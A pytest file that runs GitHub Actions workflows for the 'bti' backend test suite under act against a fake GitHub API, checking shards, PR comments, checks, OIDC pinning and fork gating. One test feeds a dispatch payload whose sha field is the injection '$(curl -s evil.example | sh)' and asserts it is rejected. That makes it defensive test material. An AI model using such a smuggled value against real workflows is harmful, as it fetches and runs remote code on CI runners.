"""The composite action and the workflows, executed by act on this host (see tests/actions/act.py).

Each scenario asserts job conclusions, step outputs, the job summary, the artifacts and the API calls.
"""

from __future__ import annotations

import copy
import dataclasses
import hashlib
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from ..github_fake import FakeGitHub
from .act import HERE, ROOT, ActRun, build_toolcache, build_wheelhouse, commit_tree, git, run_act, snapshot_bti

pytestmark = pytest.mark.act

CALLER = "vendor-a/npu-backend"
WEBHOOKS = ROOT / "tests" / "fixtures" / "github-webhooks"
GOLDEN = ROOT / "tests" / "golden"


@pytest.fixture(scope="session")
def act_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """repos/ (bti-org/bti snapshot of this tree, callers), toolcache/ and wheelhouse/, shared by the scenarios a
    worker runs; the wheelhouse is downloaded once for every worker of the session."""
    home = tmp_path_factory.mktemp("act")
    snapshot_bti(home / "repos")
    build_toolcache(home / "toolcache")
    root = tmp_path_factory.getbasetemp()
    shared = build_wheelhouse((root.parent if os.environ.get("PYTEST_XDIST_WORKER") else root) / "act-wheelhouse")
    if shared is not None:
        (home / "wheelhouse").symlink_to(shared)
    return home


@pytest.fixture
def fake(httpserver) -> FakeGitHub:
    gh = FakeGitHub(httpserver.url_for("/"), repo=CALLER)
    httpserver.expect_request(re.compile(".*")).respond_with_handler(gh)
    return gh


class Scenario:
    def __init__(self, home: Path, tmp: Path, workflow: str, text: str | None = None) -> None:
        self.home, self.tmp = home, tmp
        bti_sha = git(home / "repos" / "bti-org" / "bti", "rev-parse", "HEAD")
        files = {p.relative_to(HERE / "caller"): p for p in (HERE / "caller").rglob("*") if p.is_file()}
        src = (text or (HERE / "workflows" / workflow).read_text()).replace("BTI_SHA", str(bti_sha))
        (tmp / "wf").mkdir(parents=True, exist_ok=True)
        (tmp / "wf" / workflow).write_text(src)
        files[Path(".github/workflows") / workflow] = tmp / "wf" / workflow
        self.repo = home / "repos" / CALLER
        self.sha = commit_tree(files, self.repo, CALLER)  # the PR head
        # as on GitHub, the run's github.sha is a merge commit on top of the PR head, not the head itself
        git(self.repo, "update-ref", "refs/pull/7/head", self.sha)
        git(self.repo, "commit", "-q", "--allow-empty", "-m", "Merge the PR head into main")
        self.merge_sha = git(self.repo, "rev-parse", "HEAD")
        self.workflow = workflow

    def pull_request_event(self, number: int = 7, fork: bool = False) -> dict[str, Any]:
        name = "pull_request.opened.fork.json" if fork else "pull_request.opened.payload.json"
        event = copy.deepcopy(json.loads((WEBHOOKS / name).read_text()))
        event["number"] = event["pull_request"]["number"] = number
        event["repository"]["full_name"] = CALLER
        event["pull_request"]["base"]["repo"]["full_name"] = CALLER
        event["pull_request"]["head"]["sha"] = self.sha
        if not fork:
            event["pull_request"]["head"]["repo"]["full_name"] = CALLER
        return event

    def run(self, event_name: str, event: dict[str, Any], fake: FakeGitHub, oidc: bool = True, **kw: Any) -> ActRun:
        """``oidc``: serve Actions' ID-token endpoint from the fake, saying this workflow was called at bti's sha."""
        if oidc:
            bti_sha = git(self.home / "repos" / "bti-org" / "bti", "rev-parse", "HEAD")
            fake.oidc_claims = {"job_workflow_ref": "bti-org/bti/.github/workflows/backend-suite.yml@refs/heads/main",
                                "job_workflow_sha": bti_sha, "repository": CALLER}
            kw["env"] = {"ACTIONS_ID_TOKEN_REQUEST_URL": f"{fake.base}/_oidc/token?api-version=2.0",
                         "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "oidc-request-token", **(kw.get("env") or {})}
        return run_act(self.repo, self.workflow, event_name, event, home=self.home, tmp=self.tmp, api_url=fake.base, **kw)


def _records(path: Path) -> list[dict[str, Any]]:
    lines = [json.loads(x) for x in path.read_text().splitlines() if x.strip()]
    return [r for r in lines if r.get("kind") == "result"]


@pytest.fixture
def scenario(act_home: Path, tmp_path: Path):
    def make(workflow: str, text: str | None = None) -> Scenario:
        return Scenario(act_home, tmp_path, workflow, text)
    return make


# ---------------------------------------------------------------------------------------------- (a) and (d)
@pytest.mark.parametrize(("recipes", "failing"), [("portable,fault-mul", True), ("portable", False)],
                         ids=["a-one-unexpected-failure", "d-all-pass"])
def test_composite_action(scenario, fake: FakeGitHub, recipes: str, failing: bool) -> None:
    sc = scenario("action.yml")
    run = sc.run("pull_request", sc.pull_request_event(), fake,
                 variables={"RECIPES": recipes, "RELAY_URL": f"{fake.base}/_relay/callback"})
    job = "action/suite"
    assert run.jobs == {job: "failure" if failing else "success"}, run.log[-4000:]
    steps = run.steps(job)
    outputs = run.marked(job, "BTI-OUTPUTS")[0]
    n_recipes = len(recipes.split(","))
    assert int(outputs["total"]) == 4 * n_recipes
    assert outputs["exit-code"] == ("1" if failing else "0")
    assert int(outputs["failed"]) == (1 if failing else 0)
    assert int(outputs["passed"]) == 4 * n_recipes - int(outputs["failed"])
    assert run.marked(job, "BTI-OUTCOME") == ["failure" if failing else "success"]
    summary = run.summary(job)
    assert summary.startswith("# bti results: " + ("❌ 1 unexpected failure" if failing else "✅")), summary[:300]
    assert ("op.mul.a[float32,static]@fault-mul" in summary) == failing, summary[:3000]
    # the upload ran after the failure; its artifact holds every report
    art = run.artifacts / "bti-results-all"
    assert {"results.jsonl", "junit.xml", "summary.md", "dashboard.html"} <= {p.name for p in art.iterdir()}
    recs = _records(art / "results.jsonl")
    bad = [r["id"] for r in recs if r["status"] not in ("PASS", "PASS_UNDELEGATED")]
    assert bad == (["op.mul.a[float32,static]@fault-mul"] if failing else [])
    assert steps["Run bti"] == "success"  # bti exit 1 is recorded, not raised by bash -e
    assert steps["Job summary and counts"] == steps["Upload results"] == "success", steps
    assert steps.get("Fail on unexpected failures") == ("failure" if failing else None), steps
    # publish is off: the only call is the relay callback, in RFC-0050's shape
    assert [p for _, p, _ in fake.log] == ["/_relay/callback"]
    (cb,) = fake.relay
    assert cb["status"] == "completed" and cb["conclusion"] == ("failure" if failing else "success")
    assert cb["test_counts"] == {"passed": int(outputs["passed"]), "failed": int(outputs["failed"]), "skipped": 0}
    assert cb["job_name"] == "action / suite / bti-results-all" and cb["artifact_url"].endswith("/actions/runs/1#artifacts")
    assert [t["name"] for t in cb["failed_tests"]] == bad


# ---------------------------------------------------------------------------------------------- the other pair
def _other_pair() -> dict[str, str]:
    """The matrix pair that is not installed here, from its constraints file (torch and executorch pins)."""
    from harness.versions import installed_version

    for path in sorted((Path(__file__).resolve().parents[2] / "constraints").glob("executorch-*.txt")):
        pins = dict(line.split("==", 1) for line in path.read_text().splitlines() if "==" in line and not line.startswith("#"))
        if pins.get("executorch") != installed_version("executorch"):
            return {k: pins[k] for k in ("torch", "executorch")}
    raise AssertionError("no other pair in constraints/")


def test_other_pair_through_executorch_spec(scenario, fake: FakeGitHub) -> None:
    """The composite action installs the matrix's other pair (torch-spec + executorch-spec in one resolve) over a
    runner whose interpreter has this pair, runs real programs on it, and the results header records what ran."""
    other = _other_pair()
    sc = scenario("pair.yml")
    run = sc.run("pull_request", sc.pull_request_event(), fake, index=True,
                 variables={"TORCH_SPEC": f"torch=={other['torch']}", "EXECUTORCH_SPEC": f"executorch=={other['executorch']}"})
    assert run.jobs == {"pair/suite": "success"}, run.log[-4000:]
    lines = [json.loads(x) for x in (run.artifacts / "bti-results-all" / "results.jsonl").read_text().splitlines()]
    header, recs = lines[0], lines[1:]
    assert header["versions"]["executorch"] == other["executorch"]
    assert header["versions"]["torch"].split("+")[0] == other["torch"]
    assert len(recs) == 8 and all(r["status"] in ("PASS", "PASS_UNDELEGATED") for r in recs), [(r["id"], r["status"]) for r in recs]
    assert any(r["delegate_blobs"] for r in recs if r["recipe"] == "xnnpack")  # lowered to XNNPACK and ran


# ---------------------------------------------------------------------------------------------- the reusable workflow
def _call(scenario, fake: FakeGitHub, *, recipes: str, shards: int = 2, labels: str = '["self-hosted", "linux", "acme-npu"]',
          fork: bool = False, env: dict[str, str] | None = None, variables: dict[str, str] | None = None,
          labels_on_pr: tuple[str, ...] = (), oidc: bool = True) -> tuple[Scenario, ActRun]:
    sc = scenario("call.yml")
    event = sc.pull_request_event(fork=fork)
    event["pull_request"]["labels"] = [{"name": n, "id": i} for i, n in enumerate(labels_on_pr)]
    run = sc.run("pull_request", event, fake, env=env, oidc=oidc,
                 variables={"RECIPES": recipes, "SHARDS": str(shards), "RUNNER_LABELS": labels, **(variables or {})})
    return sc, run


def _job(run: ActRun, name: str, call: str = "bti") -> str:
    """act names a called job ``<caller job>/<called workflow's name>/<job>``."""
    return f"{call}/bti backend suite/{name}"


def test_b_reusable_two_shards_one_failing(scenario, fake: FakeGitHub) -> None:
    sc, run = _call(scenario, fake, recipes="portable,fault-mul")
    merge = _job(run, "merge")
    runs = [j for j in run.jobs if j.startswith(_job(run, "run"))]
    assert len(runs) == 2 and all(run.jobs[j] == "success" for j in runs), run.jobs  # shards upload, merge decides
    # the workflow concludes failure (act stops the caller there: its `after` job never starts)
    assert run.jobs[merge] == "failure" and run.code != 0 and "call/after" not in run.jobs, run.jobs
    outputs = run.set_outputs(merge)
    assert (outputs["passed"], outputs["failed"]) == ("7", "1")
    assert run.steps(merge)["Verdict"] == "failure"
    assert "1 unexpected failure" in run.summary(merge)
    shards = sorted(p.name for p in run.artifacts.iterdir() if "-shard-" in p.name)
    assert len(shards) == 2 and len({s.rsplit("-shard-", 1)[0] for s in shards}) == 1, shards
    merged = next(p for p in run.artifacts.iterdir() if p.name.endswith("-merged"))
    assert sum(1 for r in _records(merged / "results.jsonl") if r["status"] == "FAIL_MISMATCH") == 1
    # the comment and the check say failure, and the check is on the PR head, not the merge commit
    (body,) = [c["body"] for c in fake.comments[7]]
    assert "1 unexpected failure" in body and "op.mul.a[float32,static]@fault-mul" in body
    (check,) = fake.check_runs.values()
    assert check["conclusion"] == "failure" and check["head_sha"] == sc.sha != sc.merge_sha
    assert check["name"] == "bti/bti"
    # the bti that ran is the commit the caller pinned, read from the OIDC token (no bti-ref given)
    bti_sha = git(sc.home / "repos" / "bti-org" / "bti", "rev-parse", "HEAD")
    assert f"checked out bti-org/bti@{bti_sha} into .bti" in run.output(runs[0])
    assert any(p.startswith("/_oidc/token") for _, p, _ in fake.log)


def test_c_shard_that_dies_before_uploading(scenario, fake: FakeGitHub) -> None:
    _, run = _call(scenario, fake, recipes="portable", env={"BTI_ACT_RUNNER_LOST": "bti-*-shard-1-2"})
    merge = _job(run, "merge")
    assert run.jobs[merge] == "failure" and run.code != 0, run.jobs
    steps = run.steps(merge)
    assert steps["Merge shards and report"] == "failure" and "Verdict" not in steps
    assert "bti: error: missing shard(s) 1/2: got 1 of 2" in run.output(merge)
    # act reports the matrix's aggregate result on every leg, so each leg is judged by its steps
    assert run.steps(_job(run, "run") + "-1")["Upload results"] == "failure"
    assert run.steps(_job(run, "run") + "-2")["Upload results"] == "success"
    assert not any(p.name.endswith("-merged") for p in run.artifacts.iterdir())
    assert not fake.comments and not fake.check_runs  # nothing claims a result for half a run


def _base_artifact(recipes: str, shards: int) -> str:
    """The merged artifact a run of the same call on the base branch uploads (plan's prefix: key + hash of what is run)."""
    what = "|".join([recipes, "suites/tiny.yaml", "", str(shards), "", "./plugin", "recipes", "", "", ""])
    return f"bti-bti-{hashlib.sha256(what.encode()).hexdigest()[:8]}-merged"


@pytest.mark.parametrize("labels", ["self-hosted", '["self-hosted", "linux", "acme-npu"]'], ids=["string", "json"])
def test_e_runner_labels_as_string_or_json(scenario, fake: FakeGitHub, labels: str) -> None:
    # the base branch's last run left its merged results, where relu failed: the comment shows the fix
    header = json.loads((GOLDEN / "results.jsonl").read_text().splitlines()[0])
    base = [{"kind": "result", "id": f"op.{op}.a[float32,static]@portable", "case": f"op.{op}.a", "recipe": "portable",
             "status": "FAIL_MISMATCH" if op == "relu" else "PASS", "detail": "", "axes": {"dtype": "float32", "shape": "static"}}
            for op in ("mul", "add", "relu", "neg")]
    fake.add_artifact(_base_artifact("portable", 1), "master",
                      {"results.jsonl": ("\n".join(json.dumps(x) for x in [header, *base]) + "\n").encode()})
    _, run = _call(scenario, fake, recipes="portable", shards=1, labels=labels)
    assert run.jobs and all(r == "success" for r in run.jobs.values()), run.jobs
    assert run.marked("call/after", "BTI-OUTPUTS")[0]["failed"] == "0"
    (check,) = fake.check_runs.values()
    assert check["conclusion"] == "success"
    (body,) = [c["body"] for c in fake.comments[7]]
    assert "**0** new failure(s) · **1** fixed" in body and "`op.relu.a[float32,static]@portable`" in body, body[:1500]


def test_g_two_calls_in_one_caller_run(scenario, fake: FakeGitHub) -> None:
    sc = scenario("twice.yml")
    run = sc.run("pull_request", sc.pull_request_event(), fake)
    assert len(run.jobs) == 6 and all(r == "success" for r in run.jobs.values()), run.jobs
    names = sorted(p.name for p in run.artifacts.iterdir())
    assert len(names) == 4 and len(set(names)) == 4, names  # 2 shard artifacts + 2 merged, none overwritten
    assert {n.split("-")[1] for n in names} == {"fp32", "plugin"}
    keys = sorted(re.search(r"bti:comment:(\S+) ", c["body"]).group(1) for c in fake.comments[7])
    assert keys == ["fp32", "plugin"]
    # no base branch run yet: each comment says so, naming the artifact it looked for
    assert all("_No base results to compare against: no unexpired bti-" in c["body"] for c in fake.comments[7])
    assert sorted(c["name"] for c in fake.check_runs.values()) == ["bti/fp32", "bti/plugin"]


def test_h_fork_pr_read_only_token(scenario, fake: FakeGitHub, act_home: Path) -> None:
    for method in ("POST", "PATCH"):
        fake.inject(method, r"/repos/.*", 403, times=100)
    fake.faults = [dataclasses.replace(f, body={"message": "Resource not accessible by integration"}) for f in fake.faults]
    # GitHub gives a fork PR's run no OIDC token: the caller pins bti-ref to the sha of its uses: line
    label = "bti: run on self-hosted"
    bti_sha = git(act_home / "repos" / "bti-org" / "bti", "rev-parse", "HEAD")
    _, run = _call(scenario, fake, recipes="portable", shards=1, fork=True, oidc=False, labels_on_pr=(label,),
                   variables={"FORK_PRS": "label", "BTI_REF": bti_sha})
    merge = _job(run, "merge")
    assert run.jobs[merge] == "success" and run.marked("call/after", "BTI-RESULT") == ["success"], run.jobs
    assert run.steps(merge)["Publish"] == "success" and run.steps(merge)["Verdict"] == "success"
    log = run.output(merge) + run.log
    assert "bti could not publish the PR comment" in log and "bti could not publish the check" in log
    assert "403" in run.output(merge)
    writes = [(m, p) for m, p, _ in fake.log if m in ("POST", "PATCH")]
    assert writes and not fake.comments.get(7) and not fake.check_runs


# ---------------------------------------------------------------------------------------------- (f) the dispatch receiver
def test_f_hostile_repository_dispatch_is_rejected_before_any_bti_step(act_home: Path, tmp_path: Path, fake: FakeGitHub) -> None:
    bti_repo = act_home / "repos" / "bti-org" / "bti"
    event = {"action": "upstream-pull-request", "branch": "main",
             "client_payload": {"repo": "pytorch/executorch", "sha": "$(curl -s evil.example | sh)", "pr": "12",
                                "recipes": "xnnpack"},
             "repository": {"full_name": "bti-org/bti", "name": "bti", "owner": {"login": "bti-org"}},
             "sender": {"login": "mallory"}}
    run = run_act(bti_repo, "on-dispatch.yml", "repository_dispatch", event, home=act_home, tmp=tmp_path, api_url=fake.base)
    job = "bti on dispatch/validate"
    assert run.code != 0 and run.jobs == {"bti on dispatch/validate": "failure"}, run.jobs  # the suite's jobs never start
    steps = run.steps(job)
    assert steps["Validate the payload (compact or relay form); rejects anything that is not a plain sha/repo/number/name"] == "failure"
    assert "bti: error: client_payload.sha: expected 40 hex characters" in run.output(job)
    assert not any("bti run" in e.get("msg", "") or "Run bti" in e.get("msg", "") for e in run.events)
    assert not run.set_outputs(job).get("sha") and not list(run.artifacts.iterdir()) and not fake.log


def _group(inputs: dict[str, str], github: dict[str, str]) -> str:
    """backend-suite.yml's concurrency group for one call (act does not evaluate concurrency: this does, for `a || b`)."""
    import yaml

    text = yaml.safe_load((ROOT / ".github/workflows/backend-suite.yml").read_text())["concurrency"]["group"]

    def value(operand: str) -> str:
        scope, _, name = operand.strip().partition(".")
        return {"inputs": inputs, "github": github}[scope].get(name, "")

    return re.sub(r"\$\{\{(.*?)\}\}", lambda m: next((v for v in map(value, m.group(1).split("||")) if v), ""), text, flags=re.S)


def test_g_two_calls_have_distinct_concurrency_groups() -> None:
    import yaml

    doc = yaml.safe_load((HERE / "workflows" / "twice.yml").read_text())
    github = {"repository": CALLER, "ref": "refs/pull/7/merge"}
    groups = [_group({k: str(v) for k, v in job["with"].items() if "${{" not in str(v)} | {"pr": "7"}, github)
              for job in doc["jobs"].values()]
    assert len(groups) == 2 and groups[0] != groups[1], groups
    # the same call on the same PR shares its group, so a newer push cancels the older run
    assert _group({"comment-key": "fp32", "recipes": "portable", "pr": "7"}, github) == \
        _group({"comment-key": "fp32", "recipes": "portable", "pr": "7"}, {**github, "sha": "another"})


# ---------------------------------------------------------------------------------------------- what runs is what was asked
@pytest.mark.parametrize(("oidc", "bti_ref", "message"), [
    (False, "main", "no OIDC token to read the pinned commit from (grant `id-token: write` to the calling job), and bti-ref 'main'"),
    (True, "0" * 40, f"bti-ref '{'0' * 40}' is not the commit this workflow was called at"),
], ids=["branch-without-oidc", "other-sha-than-pinned"])
def test_unpinned_bti_is_refused_before_any_runner_job(scenario, fake: FakeGitHub, oidc: bool, bti_ref: str, message: str) -> None:
    _, run = _call(scenario, fake, recipes="portable", shards=1, oidc=oidc, variables={"BTI_REF": bti_ref})
    plan = _job(run, "plan")
    assert run.code != 0 and run.jobs == {plan: "failure"}, run.jobs
    assert "bti refuses to run unpinned code: " + message in run.log
    assert not list(run.artifacts.iterdir()) and not fake.comments and not fake.check_runs


def test_fork_pr_does_not_reach_self_hosted_runners_without_the_label(scenario, fake: FakeGitHub) -> None:
    _, run = _call(scenario, fake, recipes="portable", shards=1, fork=True, variables={"FORK_PRS": "label"},
                   labels_on_pr=("unrelated",), oidc=False)
    plan = _job(run, "plan")
    assert run.code != 0 and run.jobs == {plan: "failure"}, run.jobs
    assert run.steps(plan)["Fork pull requests"] == "failure"
    assert "this fork pull request does not run on self-hosted runners (fork-prs: label)" in run.log
    assert not list(run.artifacts.iterdir()) and not fake.comments


def _tiny_upstream(home: Path) -> tuple[Path, str, str]:
    """pytorch/tinyup: a tiny package at two commits (the second is the dispatched PR head)."""
    repo = home / "repos" / "pytorch" / "tinyup"
    src = home / "tinyup-src"
    src.mkdir(exist_ok=True)
    (src / "pyproject.toml").write_text('[build-system]\nrequires = ["setuptools>=77"]\nbuild-backend = "setuptools.build_meta"\n'
                                        '[project]\nname = "tinyup"\nversion = "0.1.0"\n[tool.setuptools]\npy-modules = ["tinyup"]\n')
    (src / "tinyup.py").write_text("VALUE = 1\n")
    first = commit_tree({Path("pyproject.toml"): src / "pyproject.toml", Path("tinyup.py"): src / "tinyup.py"}, repo, "pytorch/tinyup")
    (repo / "tinyup.py").write_text("VALUE = 2\n")
    git(repo, "commit", "-qam", "the PR")
    return repo, first, git(repo, "rev-parse", "HEAD")


@pytest.mark.parametrize("install", ["pip", ""], ids=["installed", "not-installed"])
def test_dispatched_upstream_commit_is_what_is_tested(scenario, httpserver, act_home: Path, install: str) -> None:
    fake = FakeGitHub(httpserver.url_for("/"), repo="pytorch/tinyup")
    httpserver.expect_request(re.compile(".*")).respond_with_handler(fake)
    upstream, first, head = _tiny_upstream(act_home)
    sc = scenario("upstream.yml")
    event = {"action": "upstream-pull-request", "client_payload": {"repo": "pytorch/tinyup", "sha": head, "pr": "5"},
             "repository": {"full_name": CALLER}}
    run = sc.run("repository_dispatch", event, fake, oidc=False,
                 variables={"UPSTREAM_INSTALL": install, "UPSTREAM_URL": f"file://{upstream}"})
    job = "upstream/suite"
    header = json.loads((run.artifacts / "bti-results-all" / "results.jsonl").read_text().splitlines()[0])
    got = header["upstream"]["installed"]
    assert header["upstream"]["sha"] == head and got["package"] == "tinyup"
    if install:
        assert run.jobs == {job: "success"}, run.jobs
        assert got["commit"] == head != first and got["url"] == f"file://{upstream}"
        (check,) = fake.check_runs.values()
        assert check["head_sha"] == head and check["conclusion"] == "success"
    else:
        assert got["commit"] is None and got["version"] is None  # nothing of the upstream was installed
        assert run.jobs == {job: "success"}, run.jobs  # publishing is best effort: a refusal warns
        assert f"refusing to post on pytorch/tinyup@{head[:12]}: the results were produced with tinyup None" in run.log
        assert not fake.check_runs and not fake.statuses


def test_docs_vendor_snippet_runs_as_written(scenario, fake: FakeGitHub) -> None:
    readme = (ROOT / "docs" / "github-actions.md").read_text()
    block = readme.split("## Joining from a vendor repo", 1)[1].split("```yaml\n", 1)[1].split("```", 1)[0]
    assert "@" + "0" * 40 in block
    sc = scenario("bti.yml", block.replace("0" * 40, "BTI_SHA"))
    run = sc.run("pull_request", sc.pull_request_event(), fake)
    assert run.jobs and all(r == "success" for r in run.jobs.values()), run.jobs
    merged = next(p for p in run.artifacts.iterdir() if p.name.endswith("-merged"))
    recs = _records(merged / "results.jsonl")
    assert recs and {r["recipe"] for r in recs} == {"acme-npu"} and all(r["status"] == "PASS" for r in recs)
    assert all(r["backend"] == "fault" for r in recs)  # the plugin from the vendor's repo ran
    (body,) = [c["body"] for c in fake.comments[7]]
    assert "✅ all items passed or were expected" in body


def test_vendor_caller_template_runs_on_a_pull_request(scenario, fake: FakeGitHub) -> None:
    """workflows/vendor-caller.yml as a vendor copies it (its suites cut to the caller's four-op suite): on a pull
    request, `validate` is skipped, both recipes run with the env they require, and the comment and the check land."""
    text = (ROOT / "workflows" / "vendor-caller.yml").read_text()
    suites = next(line for line in text.splitlines() if line.strip().startswith("suites:"))
    sc = scenario("bti.yml", text.replace("0" * 40, "BTI_SHA").replace(suites, "      suites: suites/tiny.yaml"))
    run = sc.run("pull_request", sc.pull_request_event(), fake)
    assert run.jobs and all(r == "success" for j, r in run.jobs.items() if "validate" not in j), run.jobs
    merged = next(p for p in run.artifacts.iterdir() if p.name.endswith("-merged"))
    recs = _records(merged / "results.jsonl")
    assert {r["recipe"] for r in recs} == {"acme-npu", "acme-npu-int8"} and all(r["status"] == "PASS" for r in recs), recs
    assert {r["reference"] for r in recs if r["recipe"] == "acme-npu-int8"} == {"quantized"}
    (body,) = [c["body"] for c in fake.comments[7]]
    assert "`acme-npu`" in body and "`acme-npu-int8`" in body
    (check,) = fake.check_runs.values()
    assert check["head_sha"] == sc.sha and check["conclusion"] == "success" and check["name"] == "bti/bti"
